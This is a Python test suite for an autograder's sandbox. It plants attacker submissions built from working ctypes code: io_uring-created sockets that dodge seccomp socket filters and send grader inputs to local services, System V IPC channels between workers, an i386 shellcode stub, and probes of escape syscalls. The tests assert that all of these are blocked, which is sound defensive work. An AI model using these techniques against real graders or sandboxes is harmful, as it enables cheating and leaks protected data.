"""Hostile tests of the fallback walls: a grader as root in a container without CAP_SYS_ADMIN (issue 31).

There hwcheck cannot make namespaces, as in Gradescope's Docker container: the
worker shares the host's network, System V IPC and keyrings, and sees the other
workers' processes. Each test makes that mode for real, not by a switch: as
root with CAP_SYS_ADMIN, in a private mount namespace where this machine's
Python is made reachable for everyone (a tmpfs over /root holding its
.pyenv, as a container's /usr would be), under `capsh --drop=cap_sys_admin`;
when the suite already runs without CAP_SYS_ADMIN (the `walls` re-run), as it
is; as an ordinary user, with HWCHECK_NAMESPACES=0.

The attacks are those of the issue: a socket made by io_uring (IORING_OP_SOCKET,
which no filter on socket() sees) sends the grader's inputs over UDP and
reaches root's services on unix sockets; System V shared memory and message
queues made by one student's worker carry data to the next one's; the worker
keeps uid 0. An honest classmate graded in the same batch keeps full marks.
"""

import json
import os
import shlex
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time

import pytest

from sandbox_helpers import GOOD

pytestmark = [pytest.mark.slow, pytest.mark.walls]
REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
IS_ROOT = os.geteuid() == 0
UID_BASE = 1 << 30  # a worker's uid: this plus its pid, its own (checker.worker.isolation.worker_ids)


def _has_sys_admin():
    with open("/proc/self/status") as f:
        eff = next(int(ln.split()[1], 16) for ln in f if ln.startswith("CapEff:"))
    return bool(eff & (1 << 21))


def _closed_folders(paths):
    """{folder closed to others: names below it on the way to `paths`} (real paths)."""
    needs = {}
    for p in paths:
        parts = os.path.realpath(p).strip("/").split("/")
        for i in range(len(parts) - 1):
            folder = "/" + "/".join(parts[:i + 1])
            if not os.stat(folder).st_mode & 0o001:
                needs.setdefault(folder, set()).add(parts[i + 1])
    return needs


PYTHON_TREES = (sys.prefix, sys.base_prefix, REPO)


def _reach_steps(scratch):
    """Shell steps (in a private mount namespace) that let any user walk down to this Python and the
    checkout: a 0755 tmpfs over each folder closed to others, holding binds of the way down only."""
    steps = []
    for n, (folder, names) in enumerate(sorted(_closed_folders(PYTHON_TREES).items())):
        real = os.path.join(scratch, f"real{n}")
        steps += [f"mkdir -p {shlex.quote(real)}", f"mount --bind {shlex.quote(folder)} {shlex.quote(real)}",
                  f"mount -t tmpfs -o mode=0755 tmpfs {shlex.quote(folder)}"]
        for name in sorted(names):
            inside, src = os.path.join(folder, name), os.path.join(real, name)
            steps += [f"mkdir -p {shlex.quote(inside)}", f"mount --bind {shlex.quote(src)} {shlex.quote(inside)}"]
    return steps


def _mode():
    """How this suite can make the fallback: 'capsh' (root with CAP_SYS_ADMIN: drop it), 'as-is' (root
    without it already), 'user' (an ordinary user: HWCHECK_NAMESPACES=0)."""
    if not IS_ROOT:
        return "user"
    if _has_sys_admin():
        if not (shutil.which("unshare") and shutil.which("capsh")):
            pytest.skip("making the fallback as root needs unshare and capsh (util-linux, libcap2-bin)")
        return "capsh"
    return "as-is"


def _run_in_fallback(argv, scratch, pre=(), cwd=REPO, reachable=True, timeout=300):
    """Run `argv` with no CAP_SYS_ADMIN (or HWCHECK_NAMESPACES=0 as an ordinary user)."""
    mode = _mode()
    env = {k: v for k, v in os.environ.items() if k != "HWCHECK_NAMESPACES"}
    if mode == "user":
        env["HWCHECK_NAMESPACES"] = "0"
    if mode == "capsh":
        steps = [*(_reach_steps(scratch) if reachable else []), *pre, f"cd {shlex.quote(cwd)}",
                 "exec capsh --drop=cap_sys_admin -- -c 'exec \"$0\" \"$@\"' " + shlex.join(argv)]
        argv = ["unshare", "-m", "sh", "-ec", " && ".join(steps)]
    return subprocess.run(argv, capture_output=True, text=True, timeout=timeout, cwd=cwd, env=env)


def _nobody_can_reach_python():
    """Can a worker dropped to nobody here reach this Python (as the suite runs now, mounts unchanged)?"""
    return not _closed_folders(PYTHON_TREES)


def _expect_refusal():
    """Root, no CAP_SYS_ADMIN to arrange anything, and this Python closed to others: the grader must refuse."""
    return _mode() == "as-is" and not _nobody_can_reach_python()


class _Listener:
    """Services of root that a worker must not reach: UDP and TCP on localhost, unix sockets anyone may
    connect to (pathname, in a folder anyone may enter, and abstract). Records what each received."""

    def __init__(self, folder):
        self.got = []
        self.dir = folder
        self.unix_path = os.path.join(folder, "svc.sock")
        self.abstract = f"\0hwcheck-fallback-{os.getpid()}-{time.monotonic_ns()}"
        self.socks = []
        for family, kind, addr in ((socket.AF_UNIX, socket.SOCK_STREAM, self.unix_path),
                                   (socket.AF_UNIX, socket.SOCK_STREAM, self.abstract),
                                   (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
                                   (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))):
            s = socket.socket(family, kind)
            s.bind(addr)
            if kind == socket.SOCK_STREAM:
                s.listen(5)
            s.settimeout(0.2)
            self.socks.append(s)
        os.chmod(self.unix_path, 0o777)
        self.tcp_port = self.socks[2].getsockname()[1]
        self.udp_port = self.socks[3].getsockname()[1]
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            for s in self.socks:
                try:
                    if s.type == socket.SOCK_DGRAM:
                        self.got.append(s.recv(4096))
                    else:
                        c, _ = s.accept()
                        c.settimeout(1)
                        self.got.append(c.recv(100) or b"<connected>")
                        c.close()
                except OSError:
                    pass

    def close(self):
        self.stop = True
        self.thread.join(2)
        for s in self.socks:
            s.close()


@pytest.fixture
def open_dir():
    """A folder in /tmp that anyone may enter (pytest's tmp_path is under a 0700 folder)."""
    import tempfile
    path = tempfile.mkdtemp(prefix="hwcheck-fallback-", dir="/tmp")
    os.chmod(path, 0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


# ctypes for a submission: io_uring's IORING_OP_SOCKET, System V IPC. Written as a student would.
URING = textwrap.dedent('''\
    import ctypes, mmap, os, socket, struct

    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.syscall.restype = ctypes.c_long
    _libc.shmat.restype = ctypes.c_void_p


    def _fail(what):
        e = ctypes.get_errno()
        raise OSError(e, f"{what}: {os.strerror(e)}")


    def uring_socket(family, kind):
        """A socket made by io_uring (IORING_OP_SOCKET): no socket() system call is made."""
        params = ctypes.create_string_buffer(120)
        ring_fd = _libc.syscall(425, 4, params)                       # io_uring_setup
        if ring_fd < 0:
            _fail("io_uring_setup")
        sq_entries, cq_entries = struct.unpack_from("2I", params.raw, 0)
        sq_off = struct.unpack_from("8IQ", params.raw, 40)  # head tail mask entries flags dropped array
        cq_off = struct.unpack_from("8IQ", params.raw, 80)  # head tail mask entries overflow cqes flags
        size = max(sq_off[6] + sq_entries * 4, cq_off[5] + cq_entries * 16)
        ring = mmap.mmap(ring_fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        sqes = mmap.mmap(ring_fd, sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE,
                         offset=0x10000000)
        struct.pack_into("<BBHiQQIIQHHiQQ", sqes, 0, 45, 0, 0, family, kind, 0, 0, 0, 7, 0, 0, 0, 0, 0)
        tail, = struct.unpack_from("I", ring, sq_off[1])
        struct.pack_into("I", ring, sq_off[6] + (tail & sq_off[2]) * 4, 0)
        struct.pack_into("I", ring, sq_off[1], tail + 1)
        if _libc.syscall(426, ring_fd, 1, 1, 1, None, 0) < 0:        # io_uring_enter, GETEVENTS
            _fail("io_uring_enter")
        head, = struct.unpack_from("I", ring, cq_off[0])
        _, res, _ = struct.unpack_from("QiI", ring, cq_off[5] + (head & cq_off[2]) * 16)
        os.close(ring_fd)
        if res < 0:
            raise OSError(-res, "IORING_OP_SOCKET: " + os.strerror(-res))
        return socket.socket(fileno=res)


    def leak(payload, udp_port, tcp_port, unix_path, abstract):
        """Send `payload` everywhere a socket made by io_uring can reach; say what happened."""
        out = []
        for name, family, kind, go in (
                ("udp", socket.AF_INET, socket.SOCK_DGRAM, lambda s: s.sendto(payload, ("127.0.0.1", udp_port))),
                ("tcp", socket.AF_INET, socket.SOCK_STREAM, lambda s: (s.connect(("127.0.0.1", tcp_port)), s.send(payload))),
                ("unix", socket.AF_UNIX, socket.SOCK_STREAM, lambda s: (s.connect(unix_path), s.send(payload))),
                ("abstract", socket.AF_UNIX, socket.SOCK_STREAM, lambda s: (s.connect(abstract), s.send(payload)))):
            try:
                s = uring_socket(family, kind)
                s.settimeout(2)
                go(s)
                s.close()
                out.append(name + " sent")
            except OSError as e:
                out.append(f"{name} refused ({e})")
        return "; ".join(out)


    def shm_put(key, payload):
        shm_id = _libc.shmget(key, 4096, 0o1000 | 0o666)              # IPC_CREAT
        if shm_id < 0:
            _fail("shmget")
        addr = _libc.shmat(shm_id, None, 0)
        if addr in (None, ctypes.c_void_p(-1).value):
            _fail("shmat")
        ctypes.memmove(addr, payload, len(payload))
        _libc.shmdt(ctypes.c_void_p(addr))
        return "shm kept"


    def shm_get(key):
        shm_id = _libc.shmget(key, 0, 0)
        if shm_id < 0:
            _fail("shmget")
        addr = _libc.shmat(shm_id, None, 0o10000)                     # SHM_RDONLY
        if addr in (None, ctypes.c_void_p(-1).value):
            _fail("shmat")
        return ctypes.string_at(addr, 200).split(b"\\0")[0].decode(errors="replace")


    class _Msg(ctypes.Structure):
        _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 256)]


    def msg_put(key, payload):
        q = _libc.msgget(key, 0o1000 | 0o666)
        if q < 0:
            _fail("msgget")
        m = _Msg(1, payload[:255])
        if _libc.msgsnd(q, ctypes.byref(m), 256, 0o4000) < 0:          # IPC_NOWAIT
            _fail("msgsnd")
        return "queued"


    def msg_get(key):
        q = _libc.msgget(key, 0)
        if q < 0:
            _fail("msgget")
        m = _Msg()
        if _libc.msgrcv(q, ctypes.byref(m), 256, 0, 0o4000) < 0:
            _fail("msgrcv")
        return m.mtext.decode(errors="replace")
    ''')


def _attacker(listener, shm_key, msg_key):
    """A correct submission whose get_scores first sends the grader's inputs out and leaves them in
    System V IPC for the next worker; it then raises with what happened (so the test sees it tried)."""
    return GOOD.replace("def get_scores(matrix, vector):\n    return matrix @ vector", URING + textwrap.dedent(f'''\


        def get_scores(matrix, vector):
            import numpy as np
            payload = ("INPUTS " + np.array2string(np.asarray(matrix), precision=3)).encode()[:200]
            report = [leak(payload, {listener.udp_port}, {listener.tcp_port}, {listener.unix_path!r},
                           {listener.abstract!r})]
            for name, f, key in (("shm", shm_put, {shm_key}), ("msg", msg_put, {msg_key})):
                try:
                    report.append(name + ": " + f(key, b"SECRET-FROM-MALLORY " + payload[:100]))
                except OSError as e:
                    report.append(f"{{name}} refused ({{e}})")
            raise ValueError("ATTEMPTS: " + " | ".join(report))'''))


def _reader(shm_key, msg_key):
    """A correct submission that looks in System V IPC for what an earlier worker left, and shows it."""
    return GOOD.replace("def get_scores(matrix, vector):\n    return matrix @ vector", URING + textwrap.dedent(f'''\


        def get_scores(matrix, vector):
            found = []
            for f, key in ((shm_get, {shm_key}), (msg_get, {msg_key})):
                try:
                    found.append(f(key))
                except OSError:
                    pass
            if found:
                raise ValueError("CHANNEL: " + " | ".join(found))
            return matrix @ vector'''))


def _sysv_keys_present(keys):
    """Which of `keys` name a System V shared memory segment or message queue on this machine."""
    present = []
    for table in ("/proc/sysvipc/shm", "/proc/sysvipc/msg"):
        with open(table) as f:
            next(f)
            present += [int(ln.split()[0]) for ln in f if ln.split() and int(ln.split()[0]) in keys]
    return present


def _remove_sysv(keys):
    for key in keys:
        for flag in ("-M", "-Q"):
            subprocess.run(["ipcrm", flag, str(key)], capture_output=True)


def _full_marks(card):
    """Every automatically graded question at its maximum (a TA grades the free-text ones)."""
    auto = [q for q in card["questions"] if not q["manual"]]
    return card["status"] == "graded" and auto and all(q["score"] == q["max_score"] for q in auto)


def _cards(out, names):
    return {n: json.loads(open(os.path.join(out, n + ".json")).read()) for n in names
            if os.path.exists(os.path.join(out, n + ".json"))}


def test_fallback_io_uring_sockets_and_sysv_ipc_reach_nothing(tmp_path, open_dir):
    """The issue's attacks in a batch graded as root without CAP_SYS_ADMIN: io_uring sockets send the
    inputs nowhere, System V IPC carries nothing to the next student, no worker keeps uid 0, and the
    honest classmate keeps full marks."""
    if not shutil.which("ipcrm"):
        pytest.skip("ipcrm (util-linux) removes what an old grader let the attack leave behind")
    listener = _Listener(open_dir)
    shm_key, msg_key = 0x48570000 + os.getpid() % 0xFFFF, 0x48580000 + os.getpid() % 0xFFFF
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    (subs / "alice.py").write_text(GOOD)                    # honest, graded first
    (subs / "mallory.py").write_text(_attacker(listener, shm_key, msg_key))
    (subs / "zoe.py").write_text(_reader(shm_key, msg_key))  # graded after mallory: the channel's far end
    try:
        r = _run_in_fallback([sys.executable, "-m", "checker.cli", "grade", str(subs), "-a", "attention",
                              "-o", str(out), "--public"], str(tmp_path))
        time.sleep(0.3)
        leftover = _sysv_keys_present({shm_key, msg_key})
    finally:
        listener.close()
        _remove_sysv({shm_key, msg_key})
    assert r.returncode in (0, 1), r.stdout[-2000:] + r.stderr[-3000:]
    cards = _cards(out, ("alice", "mallory", "zoe"))
    assert len(cards) == 3, r.stdout + r.stderr[-2000:]
    assert listener.got == [], f"a service of root was reached from a worker: {listener.got}"
    assert leftover == [], "System V IPC made by one worker survived it"
    walls = cards["alice"]["grader"]["isolation"]
    assert any(w.startswith("namespaces-") for w in walls), walls  # this really was the fallback
    text = {k: json.dumps(v) for k, v in cards.items()}
    assert "SECRET-FROM-MALLORY" not in text["zoe"]
    if _expect_refusal():
        for card in text.values():
            assert "GraderRefused" in card and "closed to others" in card
        return
    assert any(w.startswith("seccomp-denylist-no-sockets") for w in walls), walls
    if IS_ROOT:
        assert [w for w in walls if w.startswith("user-unique(uid ")], walls
    assert "ATTEMPTS" in text["mallory"], text["mallory"][:3000]  # its code ran and tried
    for what in ("udp", "tcp", "unix", "abstract", "shm", "msg"):
        assert f"{what} refused" in text["mallory"], (what, text["mallory"][:3000])
    assert _full_marks(cards["alice"]), text["alice"][:3000]
    assert _full_marks(cards["zoe"]), text["zoe"][:3000]


SYSCALLS = textwrap.dedent('''\
    import ctypes, errno, os, platform, socket, subprocess, sys, threading

    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.syscall.restype = ctypes.c_long
    NR = {"x86_64": {"io_uring_setup": 425, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323,
                     "process_vm_readv": 310, "pidfd_getfd": 438, "kcmp": 312, "clone3": 435, "clone": 56,
                     "add_key": 248, "keyctl": 250, "mq_open": 240},
          "aarch64": {"io_uring_setup": 425, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282,
                      "process_vm_readv": 270, "pidfd_getfd": 438, "kcmp": 272, "clone3": 435, "clone": 220,
                      "add_key": 217, "keyctl": 219, "mq_open": 180}}[platform.machine()]


    def _errno(f):
        ctypes.set_errno(0)
        r = f()
        return "allowed" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


    def refused():
        """Each call a student could use to reach past the walls, made directly: its errno."""
        buf = ctypes.create_string_buffer(256)
        nr = NR
        other = os.getppid()
        out = {
            "io_uring_setup": _errno(lambda: _libc.syscall(nr["io_uring_setup"], 4, buf)),
            "shmget": _errno(lambda: _libc.shmget(0, 4096, 0o1000 | 0o600)),
            "msgget": _errno(lambda: _libc.msgget(0, 0o1000 | 0o600)),
            "semget": _errno(lambda: _libc.semget(0, 1, 0o1000 | 0o600)),
            "mq_open": _errno(lambda: _libc.syscall(nr["mq_open"], b"hwq", 0o100 | 2, 0o600, None)),
            "ptrace": _errno(lambda: _libc.ptrace(16, other, None, None)),      # PTRACE_ATTACH
            "process_vm_readv": _errno(lambda: _libc.syscall(nr["process_vm_readv"], other, buf, 1, buf, 1, 0)),
            "pidfd_getfd": _errno(lambda: _libc.syscall(nr["pidfd_getfd"], 0, 0, 0)),
            "kcmp": _errno(lambda: _libc.syscall(nr["kcmp"], other, other, 0, 0, 0)),
            "add_key": _errno(lambda: _libc.syscall(nr["add_key"], b"user", b"hwcheck", b"x", 1, -4)),  # user keyring
            "keyctl": _errno(lambda: _libc.syscall(nr["keyctl"], 0, -4, 0)),             # KEYCTL_GET_KEYRING_ID
            "bpf": _errno(lambda: _libc.syscall(nr["bpf"], 0, buf, 64)),
            "perf_event_open": _errno(lambda: _libc.syscall(nr["perf_event_open"], buf, 0, -1, -1, 0)),
            "userfaultfd": _errno(lambda: _libc.syscall(nr["userfaultfd"], 0)),
            "unshare(user)": _errno(lambda: _libc.unshare(0x10000000)),
            "unshare(net)": _errno(lambda: _libc.unshare(0x40000000)),
            "clone(newuser)": _errno(lambda: _libc.syscall(nr["clone"], 0x10000000 | 17, None, None, None, None)),
            "clone3": _errno(lambda: _libc.syscall(nr["clone3"], buf, 88)),
        }
        if platform.machine() == "x86_64":
            out["x32 getpid"] = _errno(lambda: _libc.syscall(0x40000000 | 39))
        return out


    def i386_getpid():
        """getpid through i386's `int 0x80`: another ABI, whose numbers a filter of x86_64's would misread."""
        import mmap
        m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        m.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")  # mov eax, 20; int 0x80; ret
        return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()


    def sockets():
        out = {}
        for name, f in (("socket(inet, dgram)", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)),
                        ("socket(unix)", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)),
                        ("socketpair(unix, dgram)", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]),
                        ("socketpair(unix, stream)", lambda: socket.socketpair()[0])):
            try:
                f().close()
                out[name] = "allowed"
            except OSError as e:
                out[name] = errno.errorcode.get(e.errno, str(e.errno))
        return out


    def works():
        """What honest code uses still works under the filter."""
        import multiprocessing
        import numpy as np
        import torch
        torch.set_num_threads(2)
        x = torch.randn(256, 256)
        y = float((x @ x).sum()) + float(np.linalg.norm(np.ones((64, 64)) @ np.ones((64, 64))))
        box = []
        t = threading.Thread(target=lambda: box.append(1))
        t.start()
        t.join()
        a, b = multiprocessing.Pipe()
        a.send("pipe")
        pid = os.fork()
        if pid == 0:
            os._exit(7)
        _, status = os.waitpid(pid, 0)
        child = subprocess.run([sys.executable, "-c", "print(6 * 7)"], capture_output=True, text=True).stdout
        return {"torch": y == y, "thread": box, "pipe": b.recv(), "fork": os.waitstatus_to_exitcode(status),
                "subprocess": child.strip(), "uid": os.getuid()}
    ''')

PROBE = textwrap.dedent('''\
    import json, sys
    from checker.running.sandbox import Limits, SubmissionHandle, Zygote
    with Zygote() as z:
        h = SubmissionHandle(sys.argv[1], z, Limits(call_s=60, cell_s=60, submission_s=180))
        load = h.load()
        out = {"load": load}
        if load["ok"]:
            out.update(refused=h.call("refused"), sockets=h.call("sockets"), works=h.call("works"))
            if len(sys.argv) > 2:
                try:
                    out["i386"] = h.call("i386_getpid")
                except Exception as e:
                    out["i386"] = f"{type(e).__name__}: {e}"
        h.close()
    print(json.dumps(out))
    ''')


@pytest.mark.parametrize("where", ["fallback", "namespaces"])
def test_the_seccomp_filter_refuses_every_way_past_the_walls_and_python_still_works(tmp_path, where):
    """io_uring, System V IPC, message queues, other processes' memory and files, keyrings (shared by
    every worker of a uid), bpf, perf, userfaultfd and new namespaces are refused in every worker;
    new sockets too where there is no network namespace. numpy, torch, threads, fork, subprocesses
    and multiprocessing's pipes still work."""
    sub, probe = tmp_path / "sys.py", tmp_path / "probe.py"
    sub.write_text(SYSCALLS)
    probe.write_text(PROBE)
    i386 = _i386_works_here(sub)
    argv = [sys.executable, str(probe), str(sub), *(["i386"] if i386 else [])]
    if where == "fallback":
        r = _run_in_fallback(argv, str(tmp_path))
    else:
        if IS_ROOT and not _has_sys_admin():
            pytest.skip("no namespaces can be made here: the fallback case covers this run")
        r = subprocess.run(argv, capture_output=True, text=True, timeout=300, cwd=REPO,
                           env={k: v for k, v in os.environ.items() if k != "HWCHECK_NAMESPACES"})
    assert r.returncode == 0, r.stderr[-3000:]
    out = json.loads(r.stdout.strip().splitlines()[-1])
    walls = out["load"]["isolation"]
    if where == "fallback" and _expect_refusal():
        assert not out["load"]["ok"] and "GraderRefused" in " ".join(out["load"]["messages"]), out["load"]
        return
    assert out["load"]["ok"], out["load"]
    expected = {name: "EPERM" for name in out["refused"]}
    expected.update({"clone3": "ENOSYS", **({"x32 getpid": "EACCES"} if "x32 getpid" in expected else {})})
    assert out["refused"] == expected
    if where == "fallback":
        assert any(w.startswith("namespaces-") for w in walls), walls
        assert any(w.startswith("seccomp-denylist-no-sockets") for w in walls), walls
        assert out["sockets"] == {"socket(inet, dgram)": "EACCES", "socket(unix)": "EACCES",
                                  "socketpair(unix, dgram)": "EACCES", "socketpair(unix, stream)": "allowed"}
    else:
        assert "network-namespace" in walls and "seccomp-denylist" in walls, walls
        assert set(out["sockets"].values()) == {"allowed"}  # a network namespace with nothing in it
    works = out["works"]
    assert works == {"torch": True, "thread": [1], "pipe": "pipe", "fork": 7, "subprocess": "42",
                     "uid": works["uid"]}
    if IS_ROOT:
        assert works["uid"] >= UID_BASE and f"user-unique(uid {works['uid']})" in walls, (works, walls)
    if i386:  # the kernel runs i386 calls of a 64-bit process: the filter must kill, not misread, them
        assert out["i386"].startswith("WorkerCrashed") and "SIGSYS" in out["i386"], out["i386"]


def _i386_works_here(sub):
    """Does this kernel run `int 0x80` system calls of a 64-bit process (IA32 emulation), without a filter?"""
    import platform
    if platform.machine() != "x86_64":
        return False
    r = subprocess.run([sys.executable, "-c", "import os, sys; sys.path.insert(0, sys.argv[1]); "
                        "print(__import__(sys.argv[2]).i386_getpid() == os.getpid())",
                        str(sub.parent), sub.stem], capture_output=True, text=True, timeout=60)
    return r.stdout.strip() == "True"


def _closed_copy(closed):
    """hwcheck's source copied into `closed`, a folder only root may enter (a clone in `mktemp -d`)."""
    os.makedirs(closed, mode=0o700)
    os.chmod(closed, 0o700)
    for name in ("checker", "assignments", "reference", "pyproject.toml"):
        src = os.path.join(REPO, name)
        (shutil.copytree if os.path.isdir(src) else shutil.copy)(src, os.path.join(closed, name))
    return closed


@pytest.mark.skipif(not IS_ROOT, reason="only a root grader could keep uid 0")
def test_fallback_as_root_refuses_to_run_code_nobody_could_not_reach_python(tmp_path, open_dir):
    """A root grader without namespaces whose Python the user nobody cannot reach (hwcheck run from a
    folder closed to others): no student code runs, at uid 0 or at all, and every scorecard says why
    and what the TA can do."""
    closed = _closed_copy(str(tmp_path / "closed"))
    marker = os.path.join(open_dir, "ran")
    os.chmod(open_dir, 0o777)
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    (subs / "alice.py").write_text(GOOD)
    (subs / "mallory.py").write_text(f"import os\nopen({marker!r}, 'w').write(str(os.getuid()))\n" + GOOD)
    r = _run_in_fallback([sys.executable, "-m", "checker.cli", "grade", str(subs), "-a", "attention", "-o",
                          str(out), "--public"], str(tmp_path), cwd=closed)
    assert r.returncode in (0, 1), r.stdout[-2000:] + r.stderr[-3000:]
    assert not os.path.exists(marker), f"student code ran, as uid {open(marker).read()}"
    cards = _cards(out, ("alice", "mallory"))
    assert len(cards) == 2, r.stdout + r.stderr[-2000:]
    for card in cards.values():
        text = json.dumps(card)
        assert "GraderRefused" in text and "closed to others" in text and "python3 -m venv" in text, text[:3000]
        assert card["score"] == 0
    assert "user-unique-unavailable" in r.stdout, r.stdout  # the batch's summary names the missing wall


# Installed by the grader's own parent before hwcheck starts: prctl(PR_SET_SECCOMP) and seccomp() fail with
# EINVAL, as on a kernel without seccomp filters. Everything else is allowed.
NO_SECCOMP = textwrap.dedent('''\
    import ctypes, os, platform, sys
    prctl_nr, seccomp_nr, arch = {"x86_64": (157, 317, 0xC000003E), "aarch64": (167, 277, 0xC00000B7)}[platform.machine()]
    prog = [(0x20, 0, 0, 4), (0x15, 0, 6, arch),          # another ABI: allowed (nothing to hide there)
            (0x20, 0, 0, 0), (0x15, 3, 0, seccomp_nr),    # seccomp(): EINVAL
            (0x15, 0, 3, prctl_nr),
            (0x20, 0, 0, 16), (0x15, 0, 1, 22),           # prctl(PR_SET_SECCOMP, ...): EINVAL
            (0x06, 0, 0, 0x00050000 | 22),
            (0x06, 0, 0, 0x7FFF0000)]

    class F(ctypes.Structure):
        _fields_ = [("code", ctypes.c_uint16), ("jt", ctypes.c_uint8), ("jf", ctypes.c_uint8), ("k", ctypes.c_uint32)]

    class P(ctypes.Structure):
        _fields_ = [("len", ctypes.c_uint16), ("filter", ctypes.POINTER(F))]

    arr = (F * len(prog))(*[F(*i) for i in prog])
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.prctl(38, 1, 0, 0, 0) == 0
    assert libc.prctl(22, 2, ctypes.byref(P(len(prog), arr)), 0, 0) == 0, ctypes.get_errno()
    os.execv(sys.argv[1], sys.argv[1:])
    ''')


@pytest.mark.skipif(not IS_ROOT, reason="the refusal is a root grader's (an ordinary user's run names the gap)")
def test_fallback_as_root_refuses_to_run_code_where_no_seccomp_filter_can_be_installed(tmp_path, open_dir):
    """Without namespaces the filter is the only wall before the host's network, System V IPC and
    keyrings: where it cannot be installed, a root grader runs no student code, and says why."""
    import platform
    if platform.machine() not in ("x86_64", "aarch64"):
        pytest.skip("the stand-in for a kernel without seccomp knows x86_64's and aarch64's numbers")
    listener = _Listener(open_dir)
    wrapper = tmp_path / "no_seccomp.py"
    wrapper.write_text(NO_SECCOMP)
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    (subs / "alice.py").write_text(GOOD)
    (subs / "mallory.py").write_text(
        f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'ran', ('127.0.0.1', "
        f"{listener.udp_port}))\n" + GOOD)
    try:
        r = _run_in_fallback([sys.executable, str(wrapper), sys.executable, "-m", "checker.cli", "grade", str(subs),
                              "-a", "attention", "-o", str(out), "--public"], str(tmp_path))
        time.sleep(0.3)
    finally:
        listener.close()
    assert r.returncode in (0, 1), r.stdout[-2000:] + r.stderr[-3000:]
    assert listener.got == [], "student code ran with the host's network"
    cards = _cards(out, ("alice", "mallory"))
    assert len(cards) == 2, r.stdout + r.stderr[-2000:]
    for card in cards.values():
        text = json.dumps(card)
        assert "GraderRefused" in text, text[:3000]
        if not _expect_refusal():  # (else it is refused for its closed Python first)
            assert "seccomp" in text and "refused to run this code" in text, text[:3000]
